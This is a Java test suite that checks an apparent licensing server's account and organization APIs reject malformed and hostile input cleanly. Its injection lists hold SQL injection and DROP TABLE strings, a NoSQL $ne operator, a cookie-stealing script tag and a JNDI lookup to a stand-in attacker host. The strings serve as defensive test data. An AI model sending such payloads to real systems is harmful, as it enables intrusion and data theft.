package org.openlicensing.server.errors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.openlicensing.server.testing.Problems.assertIsProblem;
import static org.openlicensing.server.testing.Problems.assertNoInternals;
import static org.openlicensing.server.testing.Problems.assertProblem;
import static org.openlicensing.server.testing.Problems.fieldsOf;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.openlicensing.server.errors.AccountsEndpoints.Endpoint;
import org.openlicensing.server.errors.AccountsEndpoints.Field;
import org.openlicensing.server.errors.AccountsEndpoints.PathEndpoint;
import org.openlicensing.server.errors.AccountsEndpoints.Who;
import org.openlicensing.server.testing.ApiClient;
import org.openlicensing.server.testing.ApiResponse;
import org.openlicensing.server.testing.Customer;
import org.openlicensing.server.testing.ServerDatabase;
import org.openlicensing.server.testing.ServerTestBase;
import org.openlicensing.server.testing.SignIn;

/**
 * A sweep of bad input over every endpoint of accounts, sessions, admin user management, API keys
 * and organizations: malformed JSON, other JSON shapes, wrong types, missing and unknown fields,
 * huge strings, invalid UTF-8, injection strings, malformed ids and bad query parameters. Every
 * answer is a 4xx problem+json with a code, never a 5xx, never a trace of the server's insides;
 * where the input names a field, the problem names it too.
 *
 * <p>Each request comes from an address of its own, so that per-address limits never answer for the
 * validation under test; accounts are made per endpoint and kind of input for the same reason.
 */
class AccountsBadInputTest extends ServerTestBase {
  private static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1' --",
          "\"; DROP TABLE accounts; --",
          "<script>alert(document.cookie)</script>",
          "${jndi:ldap://attacker.example/a}",
          "a\u0000b");

  private final Map<String, Customer> customers = new ConcurrentHashMap<>();
  private Customer target;
  private String admin;

  @Override
  protected ServerDatabase database() {
    return ServerDatabase.EMBEDDED_H2;
  }

  /** A kind of input sent to an endpoint, with the body bytes and its media type. */
  record Case(Endpoint endpoint, String kind, String what, byte[] body, String contentType) {
    Case(Endpoint endpoint, String kind, String what, String body) {
      this(endpoint, kind, what, body.getBytes(StandardCharsets.UTF_8), endpoint.contentType());
    }

    @Override
    public String toString() {
      return endpoint + ": " + what;
    }
  }

  // Who calls, and the ids in the path

  private Customer customer(String key) {
    return customers.computeIfAbsent(key, k -> newCustomer());
  }

  private synchronized Customer target() {
    if (target == null) {
      target = newCustomer();
    }
    return target;
  }

  private synchronized String admin() {
    if (admin == null) {
      admin = SignIn.superAdmin(api).accessToken();
    }
    return admin;
  }

  /** Sends the request as its endpoint's caller; {@code key} picks the account it uses. */
  private ApiResponse send(
      String method, String path, Who who, String key, byte[] body, String contentType) {
    Map<String, String> headers = new HashMap<>();
    if (contentType != null) {
      headers.put("Content-Type", contentType);
    }
    String resolved = path.contains("{user}") ? path.replace("{user}", target().id()) : path;
    String bearer =
        switch (who) {
          case ANYONE -> null;
          case USER, OWNER -> customer(key).accessToken();
          case ADMIN -> admin();
        };
    if (who == Who.OWNER) {
      resolved = resolved.replace("{org}", customer(key).organizationId());
    }
    if (bearer != null) {
      headers.put("Authorization", "Bearer " + bearer);
    }
    return api.fromAnotherAddress().send(method, resolved, body, headers);
  }

  private ApiResponse send(Case c) {
    Endpoint e = c.endpoint();
    return send(e.method(), e.path(), e.who(), e + "|" + c.kind(), c.body(), c.contentType());
  }

  private static String json(Object body) {
    return new String(ApiClient.json(body), StandardCharsets.UTF_8);
  }

  private static Map<String, Object> with(Endpoint e, String field, Object value) {
    Map<String, Object> body = e.goodBody();
    body.put(field, value);
    return body;
  }

  private static boolean namesField(ApiResponse answer, String field) {
    return fieldsOf(answer).stream()
        .anyMatch(f -> f.equals(field) || f.startsWith(field + ".") || f.startsWith(field + "["));
  }

  private static void assertRefusedNaming(ApiResponse answer, String field) {
    assertProblem(answer, 400, "VALIDATION_FAILED");
    assertThat(namesField(answer, field)).as("%s names %s", answer, field).isTrue();
  }

  /** Not a 5xx; a refusal is a problem with a code; nothing of the insides shows. */
  private static void assertNeverBroken(ApiResponse answer) {
    assertThat(answer.status()).as("%s", answer).isLessThan(500);
    if (answer.status() >= 400) {
      assertIsProblem(answer);
    } else {
      assertNoInternals(answer);
    }
  }

  // Bodies that are not a JSON object of the endpoint

  static Stream<Case> malformedBodies() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e -> {
              String good = json(e.goodBody());
              String first = e.fields().get(0).name();
              String firstValue = json(e.fields().get(0).good().get());
              return Stream.of(
                  new Case(e, "malformed", "an unclosed object", "{"),
                  new Case(e, "malformed", "a field without a value", "{\"" + first + "\": "),
                  new Case(e, "malformed", "single quotes", "{'" + first + "': 'x'}"),
                  new Case(e, "malformed", "trailing garbage", good + " }{"),
                  new Case(
                      e,
                      "malformed",
                      "a duplicated field",
                      "{\""
                          + first
                          + "\": "
                          + firstValue
                          + ", \""
                          + first
                          + "\": "
                          + firstValue
                          + "}"),
                  new Case(e, "malformed", "an empty array", "[]"),
                  new Case(e, "malformed", "the body in an array", "[" + good + "]"),
                  new Case(e, "malformed", "a string", "\"text\""),
                  new Case(e, "malformed", "a number", "42"),
                  new Case(e, "malformed", "null", "null"),
                  new Case(e, "malformed", "no body at all", ""),
                  new Case(
                      e, "malformed", "nesting 1000 deep", "[".repeat(1000) + "]".repeat(1000)));
            });
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("malformedBodies")
  void aBodyThatIsNoJsonObjectIsRefusedNamingTheBody(Case c) {
    assertRefusedNaming(send(c), "body");
  }

  // Fields of the wrong JSON type

  private static List<Object> wrongValues(Field field) {
    return switch (field.kind()) {
      case TEXT -> List.of(42, true, 1.5, List.of("x"), Map.of("$ne", ""));
      case BOOLEAN -> List.of("yes", 1, Map.of());
      case ENUM_LIST -> List.of("USER", List.of(42), List.of("NOT_A_VALUE"), Map.of("a", 1));
      case OBJECT -> List.of("Street 1", 42, true, List.of("Street 1"));
      case LINES -> List.of("a line", 42, true, Map.of("a", 1), List.of(List.of("x")));
    };
  }

  static Stream<Arguments> wrongTypes() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e ->
                e.fields().stream()
                    .flatMap(
                        f ->
                            wrongValues(f).stream()
                                .map(
                                    v ->
                                        Arguments.of(
                                            new Case(
                                                e,
                                                "wrong type",
                                                f.name() + " = " + json(v),
                                                json(with(e, f.name(), v))),
                                            f.name()))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("wrongTypes")
  void aFieldOfTheWrongTypeIsRefusedByName(Case c, String field) {
    assertRefusedNaming(send(c), field);
  }

  static Stream<Arguments> nullsInLists() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e ->
                e.fields().stream()
                    .filter(f -> f.kind() == AccountsEndpoints.Kind.ENUM_LIST)
                    .map(
                        f -> {
                          List<Object> withNull = new ArrayList<>();
                          withNull.add(null);
                          return Arguments.of(
                              new Case(
                                  e,
                                  "wrong type",
                                  f.name() + " = [null]",
                                  json(with(e, f.name(), withNull))),
                              f.name());
                        }));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("nullsInLists")
  void aNullInAListIsRefusedByName(Case c, String field) {
    assertRefusedNaming(send(c), field);
  }

  // Missing and unknown fields

  static Stream<Arguments> missingFields() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e ->
                e.fields().stream()
                    .filter(Field::required)
                    .map(
                        f -> {
                          Map<String, Object> body = e.goodBody();
                          body.remove(f.name());
                          return Arguments.of(
                              new Case(e, "missing", "without " + f.name(), json(body)), f.name());
                        }));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("missingFields")
  void aMissingRequiredFieldIsNamed(Case c, String field) {
    assertRefusedNaming(send(c), field);
  }

  static Stream<Arguments> explicitNulls() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .filter(e -> e.contentType().equals("application/json"))
        .flatMap(
            e ->
                e.fields().stream()
                    .filter(Field::required)
                    .map(
                        f -> {
                          Map<String, Object> body = e.goodBody();
                          body.put(f.name(), null);
                          return Arguments.of(
                              new Case(e, "missing", f.name() + " = null", json(body)), f.name());
                        }));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("explicitNulls")
  void aRequiredFieldSentAsNullIsNamed(Case c, String field) {
    assertRefusedNaming(send(c), field);
  }

  static Stream<Case> emptyObjects() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .filter(e -> e.fields().stream().anyMatch(Field::required))
        .map(e -> new Case(e, "missing", "an empty object", "{}"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("emptyObjects")
  void anEmptyObjectIsRefusedNamingARequiredField(Case c) {
    ApiResponse answer = send(c);

    assertProblem(answer, 400, "VALIDATION_FAILED");
    List<String> required =
        c.endpoint().fields().stream().filter(Field::required).map(Field::name).toList();
    assertThat(fieldsOf(answer)).as("%s", answer).containsAnyElementsOf(required);
  }

  static Stream<Arguments> unknownFields() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e -> {
              Stream<Arguments> top =
                  Stream.of(
                      Arguments.of(
                          new Case(e, "unknown", "with isAdmin", json(with(e, "isAdmin", true))),
                          "isAdmin"));
              if (e.fields().stream().noneMatch(f -> f.name().equals("accountId"))) {
                top =
                    Stream.concat(
                        top,
                        Stream.of(
                            Arguments.of(
                                new Case(
                                    e,
                                    "unknown",
                                    "with accountId",
                                    json(
                                        with(
                                            e,
                                            "accountId",
                                            "00000000-0000-0000-0000-000000000000"))),
                                "accountId")));
              }
              if (e.fields().stream().noneMatch(f -> f.name().equals("address"))) {
                return top;
              }
              Map<String, Object> address = new LinkedHashMap<>();
              address.put("line1", "Street 1");
              address.put("postalCode", "10117");
              address.put("city", "Berlin");
              address.put("planet", "Mars");
              return Stream.concat(
                  top,
                  Stream.of(
                      Arguments.of(
                          new Case(
                              e,
                              "unknown",
                              "with address.planet",
                              json(with(e, "address", address))),
                          "address.planet")));
            });
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("unknownFields")
  void anUnknownFieldIsRefusedByName(Case c, String field) {
    assertRefusedNaming(send(c), field);
  }

  // Huge strings, invalid UTF-8, another media type

  static Stream<Case> hugeBodies() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .map(
            e -> {
              String field = e.fields().get(0).name();
              return new Case(
                  e, "huge", "100 KB in " + field, json(with(e, field, "a".repeat(100_000))));
            });
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hugeBodies")
  void aBodyOf100KilobytesIsRefused(Case c) {
    ApiResponse answer = send(c);

    assertIsProblem(answer);
    assertThat(answer.status()).as("%s", answer).isIn(400, 413);
  }

  static Stream<Case> longStrings() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e ->
                e.textFields()
                    .map(
                        f ->
                            new Case(
                                e,
                                "long",
                                "60 KB in " + f.name(),
                                json(with(e, f.name(), "b".repeat(60_000))))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("longStrings")
  void aStringOf60KilobytesInAnyFieldIsRefused(Case c) {
    ApiResponse answer = send(c);

    assertIsProblem(answer);
    assertThat(answer.status()).as("%s", answer).isIn(400, 401);
  }

  static Stream<Case> invalidUtf8() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e -> {
              Field first = e.fields().get(0);
              String field = first.name();
              String marker = "INVALID-UTF8-HERE";
              Object value =
                  first.kind() == AccountsEndpoints.Kind.ENUM_LIST
                          || first.kind() == AccountsEndpoints.Kind.LINES
                      ? List.of(marker)
                      : marker;
              String body = json(with(e, field, value));
              return Stream.of(
                      new byte[] {'a', (byte) 0xC3, (byte) 0x28, 'b'},
                      new byte[] {(byte) 0xFF, (byte) 0xFE},
                      new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80})
                  .map(
                      bytes ->
                          new Case(
                              e,
                              "utf-8",
                              "invalid UTF-8 in "
                                  + field
                                  + " "
                                  + Base64.getEncoder().encodeToString(bytes),
                              splice(body, marker, bytes),
                              e.contentType()));
            });
  }

  private static byte[] splice(String body, String marker, byte[] bytes) {
    int at = body.indexOf(marker);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(body.substring(0, at).getBytes(StandardCharsets.UTF_8));
    out.writeBytes(bytes);
    out.writeBytes(body.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8));
    return out.toByteArray();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("invalidUtf8")
  void invalidUtf8IsRefused(Case c) {
    assertProblem(send(c), 400, "VALIDATION_FAILED");
  }

  static Stream<Case> otherMediaTypes() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e ->
                Stream.of("text/plain", "application/x-www-form-urlencoded", "application/xml")
                    .map(
                        type ->
                            new Case(
                                e,
                                "media type",
                                "sent as " + type,
                                json(e.goodBody()).getBytes(StandardCharsets.UTF_8),
                                type)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("otherMediaTypes")
  void aBodyOfAnotherMediaTypeIs415(Case c) {
    assertProblem(send(c), 415, "UNSUPPORTED_MEDIA_TYPE");
  }

  // Injection strings

  static Stream<Case> injections() {
    return AccountsEndpoints.WITH_BODIES.stream()
        .flatMap(
            e ->
                e.textFields()
                    .flatMap(
                        f ->
                            INJECTIONS.stream()
                                .map(
                                    s ->
                                        new Case(
                                            e,
                                            "injection in " + f.name(),
                                            f.name() + " = " + json(s),
                                            json(with(e, f.name(), s))))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("injections")
  void anInjectionStringIsTakenAsPlainTextNeverBreakingTheServer(Case c) {
    assertNeverBroken(send(c));
  }

  // Endpoints that read no body

  static Stream<Case> bodiesWhereNoneIsRead() {
    return AccountsEndpoints.WITHOUT_BODIES.stream()
        .flatMap(
            e ->
                Stream.of("{", "[]", "{\"isAdmin\": true}")
                    .map(body -> new Case(e, "no body expected", "with " + body, body)));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("bodiesWhereNoneIsRead")
  void aBodyWhereNoneIsReadNeverBreaksTheServer(Case c) {
    assertNeverBroken(send(c));
  }

  // Malformed ids in the path

  static Stream<Arguments> malformedIds() {
    return AccountsEndpoints.WITH_IDS.stream()
        .flatMap(
            e ->
                AccountsEndpoints.MALFORMED_IDS.stream()
                    .map(
                        id ->
                            Arguments.of(
                                e,
                                id.length() > 40
                                    ? id.substring(0, 10) + "... (" + id.length() + ")"
                                    : id,
                                id)));
  }

  @ParameterizedTest(name = "{0} with {1}")
  @MethodSource("malformedIds")
  void aMalformedIdInThePathIsNotFound(PathEndpoint e, String shown, String id) {
    byte[] body = e.body() == null ? null : ApiClient.json(e.body());
    ApiResponse answer =
        send(
            e.method(),
            e.path().replace("{bad}", id),
            e.who(),
            e + "|path",
            body,
            body == null ? null : "application/json");

    assertProblem(answer, 404, "NOT_FOUND");
  }

  // Query parameters of the admin lists

  static Stream<Arguments> badUserQueries() {
    return Stream.of(
        Arguments.of("status=BOGUS", "status"),
        Arguments.of("status=active", "status"),
        Arguments.of("role=GOD", "role"),
        Arguments.of("role=1", "role"),
        Arguments.of("createdFrom=yesterday", "createdFrom"),
        Arguments.of("createdFrom=2026-13-45T00:00:00Z", "createdFrom"),
        Arguments.of("createdFrom=2026-01-01", "createdFrom"),
        Arguments.of("createdTo=1700000000", "createdTo"),
        Arguments.of(
            "createdFrom=2026-02-01T00:00:00Z&createdTo=2026-01-01T00:00:00Z", "createdTo"),
        Arguments.of("sort=password", "sort"),
        Arguments.of("sort=createdAt;DROP%20TABLE%20accounts", "sort"),
        Arguments.of("order=sideways", "order"),
        Arguments.of("limit=0", "limit"),
        Arguments.of("limit=1000", "limit"),
        Arguments.of("limit=201", "limit"),
        Arguments.of("limit=-1", "limit"),
        Arguments.of("limit=abc", "limit"),
        Arguments.of("limit=1.5", "limit"),
        Arguments.of("limit=99999999999", "limit"),
        Arguments.of("cursor=not-a-cursor", "cursor"),
        Arguments.of("cursor=%00", "cursor"),
        Arguments.of("cursor=" + base64("CREATED_AT|not-a-time|not-an-id"), "cursor"),
        Arguments.of("cursor=" + base64("EMAIL|a@example.test|not-an-id"), "cursor"),
        Arguments.of(
            "sort=name&cursor="
                + base64("EMAIL|a@example.test|00000000-0000-0000-0000-000000000000"),
            "cursor"),
        Arguments.of("q=" + "q".repeat(5000), "q"));
  }

  private static String base64(String text) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badUserQueries")
  void aBadQueryOfTheUserOverviewIsRefusedByName(String query, String field) {
    ApiResponse answer = api.get("/v1/admin/users?" + query, admin());

    assertRefusedNaming(answer, field);
  }

  @Test
  void aCursorOfAnotherOrderIsRefused() {
    target();
    ApiResponse byEmail = api.get("/v1/admin/users?sort=email&limit=1", admin());
    String cursor = byEmail.field("nextCursor");
    assertThat(cursor).as("%s", byEmail).isNotNull();

    assertRefusedNaming(api.get("/v1/admin/users?sort=name&cursor=" + cursor, admin()), "cursor");
  }

  static Stream<Arguments> searchTexts() {
    return Stream.of(
        Arguments.of("%25", "%"),
        Arguments.of("_", "_"),
        Arguments.of("!", "!"),
        Arguments.of("%27%20OR%20%271%27%3D%271", "' OR '1'='1"),
        Arguments.of("%22%3B%20DROP%20TABLE%20accounts%3B%20--", "\"; DROP TABLE accounts; --"),
        Arguments.of("%7B%22%24ne%22%3A%20null%7D", "{\"$ne\": null}"),
        Arguments.of("%3Cscript%3E", "<script>"));
  }

  @ParameterizedTest(name = "q={1}")
  @MethodSource("searchTexts")
  void aSearchTextIsMatchedLiterallyNeverAsSqlOrAWildcard(String encoded, String text) {
    ApiResponse answer = api.get("/v1/admin/users?q=" + encoded, admin());

    assertThat(answer.status()).as("%s", answer).isEqualTo(200);
    answer
        .json()
        .get("items")
        .forEach(
            u ->
                assertThat(u.get("email").asText() + " " + u.get("name").asText())
                    .as("a match for %s", text)
                    .containsIgnoringCase(text));
  }

  static Stream<Arguments> badSecurityEventQueries() {
    return Stream.of(
        Arguments.of("limit=0", "limit"),
        Arguments.of("limit=1000", "limit"),
        Arguments.of("limit=-5", "limit"),
        Arguments.of("limit=abc", "limit"),
        Arguments.of("cursor=not-a-cursor", "cursor"),
        Arguments.of("cursor=" + base64("not-a-uuid"), "cursor"),
        Arguments.of("cursor=%00", "cursor"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badSecurityEventQueries")
  void aBadQueryOfTheSecurityEventsIsRefusedByName(String query, String field) {
    assertRefusedNaming(api.get("/v1/admin/security-events?" + query, admin()), field);
  }

  // Query parameters and files of the organization endpoints

  static Stream<Arguments> badOrganizationListQueries() {
    return Stream.of("members", "invitations", "audit-events")
        .flatMap(
            list ->
                Stream.of(
                    Arguments.of(list, "limit=0", "limit"),
                    Arguments.of(list, "limit=501", "limit"),
                    Arguments.of(list, "limit=abc", "limit"),
                    Arguments.of(list, "cursor=not-a-cursor", "cursor"),
                    Arguments.of(list, "cursor=" + base64("not-a-uuid"), "cursor"),
                    Arguments.of(list, "cursor=%00", "cursor")));
  }

  @ParameterizedTest(name = "{0}?{1}")
  @MethodSource("badOrganizationListQueries")
  void aBadQueryOfAnOrganizationListIsRefusedByName(String list, String query, String field) {
    Customer owner = customer("lists|" + list + "|" + query);

    assertRefusedNaming(
        api.get(
            "/v1/organizations/" + owner.organizationId() + "/" + list + "?" + query,
            owner.accessToken()),
        field);
  }

  static Stream<Arguments> badAuditQueries() {
    return Stream.of(
        Arguments.of("from=yesterday", "from"),
        Arguments.of("from=2026-01-01", "from"),
        Arguments.of("to=2026-13-45T00:00:00Z", "to"),
        Arguments.of("from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "to"),
        Arguments.of("actorAccountId=not-an-id", "actorAccountId"),
        Arguments.of("targetId=1", "targetId"),
        Arguments.of("action=" + "a".repeat(101), "action"),
        Arguments.of("targetType=" + "t".repeat(51), "targetType"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badAuditQueries")
  void aBadFilterOfTheAuditEventsIsRefusedByName(String query, String field) {
    Customer owner = customer("audit|" + query);

    assertRefusedNaming(
        api.get(
            "/v1/organizations/" + owner.organizationId() + "/audit-events?" + query,
            owner.accessToken()),
        field);
    assertRefusedNaming(api.get("/v1/admin/audit-events?" + query, admin()), field);
  }

  static Stream<Arguments> badInvitationFiles() {
    return Stream.of(
        Arguments.of("an unclosed quote", "\"a@example.test,MEMBER\n", "body"),
        Arguments.of("no lines", "", "invitations"),
        Arguments.of("only a header", "email,role\r\n", "invitations"),
        Arguments.of("only blank lines", "\n\n , \n", "invitations"),
        Arguments.of("1,001 lines", "x@example.test,MEMBER\n".repeat(1_001), "invitations"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badInvitationFiles")
  void aBadInvitationFileIsRefusedByName(String what, String csv, String field) {
    Customer owner = customer("csv|" + what);

    ApiResponse answer =
        api.fromAnotherAddress()
            .send(
                "POST",
                "/v1/organizations/" + owner.organizationId() + "/invitations/bulk",
                csv.getBytes(StandardCharsets.UTF_8),
                Map.of(
                    "Content-Type", "text/csv", "Authorization", "Bearer " + owner.accessToken()));

    assertRefusedNaming(answer, field);
  }

  @Test
  void anInvitationFileIsNoJsonAndJsonIsNoFile() {
    Customer owner = customer("csv|types");
    String path = "/v1/organizations/" + owner.organizationId() + "/invitations";
    Map<String, String> csv =
        Map.of("Content-Type", "text/csv", "Authorization", "Bearer " + owner.accessToken());

    assertProblem(
        api.fromAnotherAddress()
            .send("POST", path, "a@example.test,MEMBER".getBytes(StandardCharsets.UTF_8), csv),
        415,
        "UNSUPPORTED_MEDIA_TYPE");
  }
}
